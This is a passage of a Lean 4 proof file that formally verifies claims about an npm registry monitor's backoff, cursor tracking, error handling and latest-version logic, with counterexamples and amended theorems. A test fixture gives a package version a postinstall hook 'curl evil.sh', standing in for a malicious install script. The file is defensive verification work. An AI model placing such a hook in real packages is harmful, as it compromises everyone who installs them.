      ∧ ((runJobs 1 ⟨[], ["left-pad@2.0.0"]⟩
            [("other", .ok plainPackument), ("left-pad", .ok scenarioPackument)]).2.filter
              fun d => detKey d == "left-pad@2.0.0").length = 0
      ∧ ("left-pad@2.0.0" : String) ∈ (runJobs 1 ⟨[], ["left-pad@2.0.0"]⟩
            [("other", .ok plainPackument), ("left-pad", .ok scenarioPackument)]).1.flagged :=
  ⟨by decide,
   ((C10_theorem 1 ⟨[], ["left-pad@2.0.0"]⟩
       [("other", .ok plainPackument), ("left-pad", .ok scenarioPackument)]
       "left-pad@2.0.0").2 (by decide)).1,
   ((C10_theorem 1 ⟨[], ["left-pad@2.0.0"]⟩
       [("other", .ok plainPackument), ("left-pad", .ok scenarioPackument)]
       "left-pad@2.0.0").2 (by decide)).2⟩

/-! ## Helper lemmas: backoff and cursor bookkeeping -/

theorem backoff_min_double (j : Nat) :
    min (min (1000 * 2 ^ j) 30000 * 2) 30000 = min (1000 * 2 ^ (j + 1)) 30000 := by
  rw [pow_succ, ← Nat.mul_assoc]
  generalize 1000 * 2 ^ j = a
  omega

theorem runFailures_waits (pollMs : Nat) :
    ∀ (K j : Nat) (s : PollState), s.backoffMs = min (1000 * 2 ^ j) 30000 →
      (runFailures pollMs s K).2
        = (List.range K).map fun i => min (1000 * 2 ^ (j + i)) 30000 := by
  intro K
  induction K with
  | zero => intro j s _; rfl
  | succ k ih =>
    intro j s hs
    have hstep : (pollIter pollMs s .transportError).1.backoffMs
        = min (1000 * 2 ^ (j + 1)) 30000 := by
      show min (s.backoffMs * 2) 30000 = _
      rw [hs, backoff_min_double]
    have htail := ih (j + 1) (pollIter pollMs s .transportError).1 hstep
    show (pollIter pollMs s .transportError).2.1
        :: (runFailures pollMs (pollIter pollMs s .transportError).1 k).2 = _
    rw [htail, List.range_succ_eq_map, List.map_cons, List.map_map]
    congr 1
    refine List.map_congr_left fun i _ => ?_
    have hadd : j + 1 + i = j + (i + 1) := by omega
    simp [Function.comp, hadd, Nat.succ_eq_add_one]

theorem pollRun_since (pollMs : Nat) (s : PollState) (t : List PollFetch) :
    (pollRun pollMs s t).since = (lastSuccessSeq t).getD s.since := by
  induction t generalizing s with
  | nil => rfl
  | cons f fs ih =>
    show (pollRun pollMs (pollIter pollMs s f).1 fs).since = _
    rw [ih]
    cases hfs : lastSuccessSeq fs with
    | some x => simp [lastSuccessSeq, hfs]
    | none =>
      cases f with
      | transportError => simp [lastSuccessSeq, hfs, pollIter]
      | badShape => simp [lastSuccessSeq, hfs, pollIter]
      | success r => simp [lastSuccessSeq, hfs, pollIter]

theorem consumed_lb (pollMs : Nat) :
    ∀ (t : List PollFetch) (s : PollState) (x : Nat),
      advancingFeed pollMs s t = true → x ∈ consumedCursors pollMs s t →
        s.since ≤ x := by
  intro t
  induction t with
  | nil => intro s x _ hx; simp [consumedCursors] at hx
  | cons f fs ih =>
    intro s x hadv hx
    cases f with
    | transportError =>
      simp only [advancingFeed, Bool.true_and] at hadv
      simp only [consumedCursors, List.nil_append] at hx
      exact ih (pollIter pollMs s .transportError).1 x hadv hx
    | badShape =>
      simp only [advancingFeed, Bool.true_and] at hadv
      simp only [consumedCursors, List.nil_append] at hx
      exact ih (pollIter pollMs s .badShape).1 x hadv hx
    | success r =>
      simp only [advancingFeed, Bool.and_eq_true, decide_eq_true_eq] at hadv
      simp only [consumedCursors, List.singleton_append, List.mem_cons] at hx
      rcases hx with rfl | hx
      · exact Nat.le_refl _
      · have := ih _ x hadv.2 hx
        have hlt : s.since < r.last_seq := hadv.1
        exact Nat.le_trans (Nat.le_of_lt hlt) this

theorem consumed_pairwise (pollMs : Nat) :
    ∀ (t : List PollFetch) (s : PollState),
      advancingFeed pollMs s t = true →
        (consumedCursors pollMs s t).Pairwise (· < ·) := by
  intro t
  induction t with
  | nil => intro s _; exact List.Pairwise.nil
  | cons f fs ih =>
    intro s hadv
    cases f with
    | transportError =>
      simp only [advancingFeed, Bool.true_and] at hadv
      simpa only [consumedCursors, List.nil_append] using ih _ hadv
    | badShape =>
      simp only [advancingFeed, Bool.true_and] at hadv
      simpa only [consumedCursors, List.nil_append] using ih _ hadv
    | success r =>
      simp only [advancingFeed, Bool.and_eq_true, decide_eq_true_eq] at hadv
      simp only [consumedCursors, List.singleton_append]
      refine List.Pairwise.cons (fun y hy => ?_) (ih _ hadv.2)
      have hge := consumed_lb pollMs fs _ y hadv.2 hy
      have hsince : (pollIter pollMs s (.success r)).1.since = r.last_seq := rfl
      exact Nat.lt_of_lt_of_le hadv.1 (hsince ▸ hge)

/-! ## C5: the backoff law -/

/-- C5 counterexample.  The claim says the wait before the (K+1)th attempt is
`min(initial * 2^K, cap)`; for K = 1 from a freshly reset backoff the code
waits 1000 ms, not `min(1000 * 2^1, 30000) = 2000` ms. -/
theorem C5_counterexample :
    (runFailures 1500 ⟨0, 1000⟩ 1).2 = [1000]
      ∧ (1000 : Nat) ≠ min (1000 * 2 ^ 1) 30000 :=
  ⟨rfl, by decide⟩

/-- C5 amended: after K consecutive feed-fetch failures the wait before the
(K+1)th attempt equals `min(initial * 2^(K-1), cap)` with initial = 1000 ms
and cap = 30000 ms — the j-th retry wait (1-indexed) is
`min(1000 * 2^(j-1), 30000)`, so the whole wait sequence from a reset backoff
is `[min(1000 * 2^0, 30000), …]`; and a single successful fetch resets the
backoff to the initial 1000 ms. -/
theorem C5_theorem (pollMs : Nat) (s : PollState) (K : Nat)
    (hs : s.backoffMs = 1000) :
    (runFailures pollMs s K).2
        = (List.range K).map (fun j => min (1000 * 2 ^ j) 30000)
      ∧ ∀ (s' : PollState) (resp : ChangesResponse),
          (pollIter pollMs s' (.success resp)).1.backoffMs = 1000 := by
  constructor
  · have h0 : s.backoffMs = min (1000 * 2 ^ 0) 30000 := by rw [hs]; decide
    rw [runFailures_waits pollMs K 0 s h0]
    exact List.map_congr_left fun i _ => by rw [Nat.zero_add]
  · intro s' resp
    rfl

/-- C5 witness: three consecutive failures from a reset backoff wait 1000,
2000 and 4000 ms. -/
theorem C5_witness :
    (runFailures 1500 ⟨0, 1000⟩ 3).2
      = (List.range 3).map fun j => min (1000 * 2 ^ j) 30000 :=
  (C5_theorem 1500 ⟨0, 1000⟩ 3 rfl).1

/-! ## C6: cursor bookkeeping -/

/-- C6 counterexample.  The claim's final clause says the same cursor value
is never consumed twice by successful batches; when a successful batch
reports `last_seq` equal to the cursor it was fetched at (a valid idle-feed
response), the next successful fetch consumes the same value again. -/
theorem C6_counterexample :
    consumedCursors 1500 ⟨5, 1000⟩ [.success ⟨[], 5⟩, .success ⟨[], 6⟩] = [5, 5]
      ∧ ¬ ([5, 5] : List Nat).Nodup :=
  ⟨rfl, by decide⟩

/-- C6 amended: after any sequence of fetches the recorded cursor equals the
`last_seq` of the last successful fetch (the initial cursor if none),
regardless of row counts — so failed fetches never advance it; and provided
every successful batch reports a `last_seq` strictly beyond the cursor it was
fetched at, the consumed cursor values are strictly increasing and no cursor
value is ever consumed twice. -/
theorem C6_theorem (pollMs : Nat) (s : PollState) (t : List PollFetch) :
    (pollRun pollMs s t).since = (lastSuccessSeq t).getD s.since
      ∧ (advancingFeed pollMs s t = true →
          (consumedCursors pollMs s t).Pairwise (· < ·)
            ∧ (consumedCursors pollMs s t).Nodup) := by
  refine ⟨pollRun_since pollMs s t, fun h => ?_⟩
  have hp := consumed_pairwise pollMs t s h
  exact ⟨hp, hp.imp Nat.ne_of_lt⟩

/-- C6 witness: over a trace with two advancing successes around a transport
error, the cursor ends at the last `last_seq` and no cursor is consumed
twice. -/
theorem C6_witness :
    (pollRun 1500 ⟨0, 1000⟩ [.success ⟨[], 1⟩, .transportError, .success ⟨[], 2⟩]).since
        = (lastSuccessSeq [.success ⟨[], 1⟩, .transportError, .success ⟨[], 2⟩]).getD 0
      ∧ (consumedCursors 1500 ⟨0, 1000⟩
          [.success ⟨[], 1⟩, .transportError, .success ⟨[], 2⟩]).Nodup :=
  ⟨(C6_theorem 1500 ⟨0, 1000⟩ _).1,
   ((C6_theorem 1500 ⟨0, 1000⟩ _).2 (by decide)).2⟩

/-! ## C9: error containment -/

/-- C9: a failed packument fetch inside a job leaves the whole state — poll
state included — unchanged and emits nothing; a feed-fetch error leaves the
cursor unchanged, waits the current backoff and doubles it capped at 30000
(never terminating the loop, which is total); and the only fatal path is
`getInitialSince` failing at startup, which exits with status 1, while a
successful startup always reaches the polling loop. -/
theorem C9_theorem :
    (∀ (C : Nat) (ps : PollState) (ws : WorkerState) (n : String),
        jobStep C ps ws n .error = (ps, ws, none))
      ∧ (∀ (pollMs : Nat) (s : PollState),
          (pollIter pollMs s .transportError).1.since = s.since
            ∧ (pollIter pollMs s .transportError).2.1 = s.backoffMs
            ∧ (pollIter pollMs s .transportError).1.backoffMs
                = min (s.backoffMs * 2) 30000
            ∧ (pollIter pollMs s .transportError).1.backoffMs ≤ 30000)
      ∧ (∀ (db : DbInfoFetch) (pollMs : Nat) (t : List PollFetch) (e : Nat),
          runMonitor db pollMs t = .error e →
            e = 1 ∧ ∃ msg, getInitialSince db = .error msg)
      ∧ ∀ (db : DbInfoFetch) (pollMs : Nat) (t : List PollFetch) (c : Nat),
          getInitialSince db = .ok c →
            runMonitor db pollMs t = .ok (pollRun pollMs (initialPollState c) t) := by
  refine ⟨fun C ps ws n => rfl, fun pollMs s => ⟨rfl, rfl, rfl, Nat.min_le_right _ _⟩,
    ?_, ?_⟩
  · intro db pollMs t e h
    cases db with
    | failed =>
      refine ⟨?_, "fetch failed", rfl⟩
      simpa [runMonitor, getInitialSince] using h.symm
    | ok u =>
      cases u with
      | none =>
        refine ⟨?_, "replicate db info missing update_seq", rfl⟩
        simpa [runMonitor, getInitialSince] using h.symm
      | some c => simp [runMonitor, getInitialSince] at h
  · intro db pollMs t c h
    cases db with
    | failed => simp [getInitialSince] at h
    | ok u =>
      cases u with
      | none => simp [getInitialSince] at h
      | some c' =>
        simp only [getInitialSince, Except.ok.injEq] at h
        subst h
        rfl

/-- C9 witness: a job whose fetch fails is a no-op, a failed startup exits
with code 1, and a successful startup polls. -/
theorem C9_witness :
    jobStep 200000 ⟨7, 1000⟩ ⟨[], []⟩ "left-pad" .error = (⟨7, 1000⟩, ⟨[], []⟩, none)
      ∧ (1 = 1 ∧ ∃ msg, getInitialSince .failed = .error msg)
      ∧ runMonitor (.ok (some 42)) 1500 [] = .ok (pollRun 1500 (initialPollState 42) []) :=
  ⟨C9_theorem.1 200000 ⟨7, 1000⟩ ⟨[], []⟩ "left-pad",
   C9_theorem.2.2.1 .failed 1500 [] 1 rfl,
   C9_theorem.2.2.2 (.ok (some 42)) 1500 [] 42 rfl⟩

/-! ## Helper lemmas: the timestamp ordering -/

theorem mem_insertDescByTime (x a : TimeEntry) :
    ∀ l : List TimeEntry, a ∈ insertDescByTime x l ↔ a = x ∨ a ∈ l := by
  intro l
  induction l with
  | nil => simp [insertDescByTime]
  | cons y ys ih =>
    by_cases h : y.t < x.t
    · simp [insertDescByTime, h]
    · simp [insertDescByTime, h, ih]
      tauto

theorem pairwise_insertDescByTime (x : TimeEntry) :
    ∀ l : List TimeEntry, l.Pairwise (fun a b => b.t ≤ a.t) →
      (insertDescByTime x l).Pairwise (fun a b => b.t ≤ a.t) := by
  intro l
  induction l with
  | nil => intro _; simp [insertDescByTime]
  | cons y ys ih =>
    intro h
    obtain ⟨h1, h2⟩ := List.pairwise_cons.mp h
    by_cases hyx : y.t < x.t
    · rw [insertDescByTime, if_pos hyx]
      refine List.Pairwise.cons (fun b hb => ?_) h
      rcases List.mem_cons.mp hb with rfl | hb
      · exact le_of_lt hyx
      · exact le_trans (h1 b hb) (le_of_lt hyx)
    · rw [insertDescByTime, if_neg hyx]
      refine List.Pairwise.cons (fun b hb => ?_) (ih h2)
      rcases (mem_insertDescByTime x b ys).mp hb with rfl | hb
      · exact le_of_not_lt hyx
      · exact h1 b hb

theorem sortByTimeDesc_pairwise (l : List TimeEntry) :
    (sortByTimeDesc l).Pairwise (fun a b => b.t ≤ a.t) := by
  have aux : ∀ (l' acc : List TimeEntry), acc.Pairwise (fun a b => b.t ≤ a.t) →
      (l'.foldl (fun acc x => insertDescByTime x acc) acc).Pairwise
        (fun a b => b.t ≤ a.t) := by
    intro l'
    induction l' with
    | nil => intro acc h; exact h
    | cons x xs ih =>
      intro acc h
      exact ih (insertDescByTime x acc) (pairwise_insertDescByTime x acc h)
  exact aux l [] List.Pairwise.nil

theorem timeEntriesOf_pairwise (p : Packument) :
    (timeEntriesOf p).Pairwise (fun a b => b.t ≤ a.t) := by
  unfold timeEntriesOf
  cases p.time with
  | none => exact List.Pairwise.nil
  | some tm => exact sortByTimeDesc_pairwise _

/-! ## C4: derivation of the latest version -/

/-- C4 counterexample.  The claim says that when the "latest" tag is absent
and timestamps are unusable, the latest version is derived by semantic-version
ordering as a last resort.  For a packument with two versions, no dist-tag and
no `time` map, `pickLatestAndPreviousVersions` returns `latest = none` — not
the semver maximum `"2.0.0"`; the monitor has no semver fallback. -/
theorem C4_counterexample :
    noTagNoTime.versions
        = some [("1.0.0", { scripts := none }), ("2.0.0", { scripts := none })]
      ∧ (pickLatestAndPreviousVersions noTagNoTime).latest = none
      ∧ (pickLatestAndPreviousVersions noTagNoTime).latest ≠ some "2.0.0" :=
  ⟨rfl, rfl, by decide⟩

/-- C4 amended: for every packument with a `versions` object, the derived
latest equals the registry's explicit "latest" dist-tag whenever that tag is
a non-empty string naming a version present in the version map; when the tag
is absent or invalid, the latest is the entry with the greatest publish
timestamp if any usable timestamps exist; and when timestamps are also
unusable, the latest is `none` — there is no semantic-version fallback in the
monitor's derivation. -/
theorem C4_theorem :
    (∀ (p : Packument) (vs : List (String × VersionDoc)) (l : String),
        p.versions = some vs → p.distTagLatest = some l → l ≠ "" →
        (vs.lookup l).isSome = true →
          (pickLatestAndPreviousVersions p).latest = some l)
      ∧ (∀ (p : Packument) (vs : List (String × VersionDoc)) (e : TimeEntry)
            (rest : List TimeEntry),
          p.versions = some vs → distTagValidFor p.distTagLatest vs = false →
          timeEntriesOf p = e :: rest →
            (pickLatestAndPreviousVersions p).latest = some e.version
              ∧ ∀ x ∈ timeEntriesOf p, x.t ≤ e.t)
      ∧ ∀ (p : Packument) (vs : List (String × VersionDoc)),
          p.versions = some vs → distTagValidFor p.distTagLatest vs = false →
          timeEntriesOf p = [] →
            (pickLatestAndPreviousVersions p).latest = none := by
  refine ⟨?_, ?_, ?_⟩
  · intro p vs l hv hd hne hlk
    have hvalid : distTagValidFor (some l) vs = true := by
      simp [distTagValidFor, hne, hlk]
    simp only [pickLatestAndPreviousVersions, hv]
    cases hte : timeEntriesOf p with
    | nil => simp [hd, hvalid]
    | cons e0 r0 => simp [hd, hvalid]
  · intro p vs e rest hv hvalid hte
    constructor
    · simp only [pickLatestAndPreviousVersions, hv]
      rw [hte]
      simp [hvalid]
    · intro x hx
      have hp := timeEntriesOf_pairwise p
      rw [hte] at hp hx
      obtain ⟨h1, _⟩ := List.pairwise_cons.mp hp
      rcases List.mem_cons.mp hx with rfl | hx
      · exact le_refl _
      · exact h1 x hx
  · intro p vs hv hvalid hte
    simp only [pickLatestAndPreviousVersions, hv]
    rw [hte]
    simp [hvalid]

/-- C4 witness: the tag wins when valid; with no tag the newest-by-timestamp
version wins; with neither, the latest is `none`. -/
theorem C4_witness :
    (pickLatestAndPreviousVersions scenarioPackument).latest = some "2.0.0"
      ∧ (pickLatestAndPreviousVersions noTagTimed).latest = some "2.0.0"
      ∧ (pickLatestAndPreviousVersions noTagNoTime).latest = none :=
  ⟨C4_theorem.1 scenarioPackument
      [("1.0.0", { scripts := none }),
       ("2.0.0", { scripts := some { postinstall := some "curl evil.sh" } })]
      "2.0.0" rfl rfl (by decide) (by decide),
   (C4_theorem.2.1 noTagTimed
      [("1.0.0", { scripts := none }), ("2.0.0", { scripts := none })]
      ⟨"2.0.0", 200⟩ [⟨"1.0.0", 100⟩] rfl (by decide) (by decide)).1,
   C4_theorem.2.2 noTagNoTime
      [("1.0.0", { scripts := none }), ("2.0.0", { scripts := none })]
      rfl (by decide) (by decide)⟩

end NpmCheck
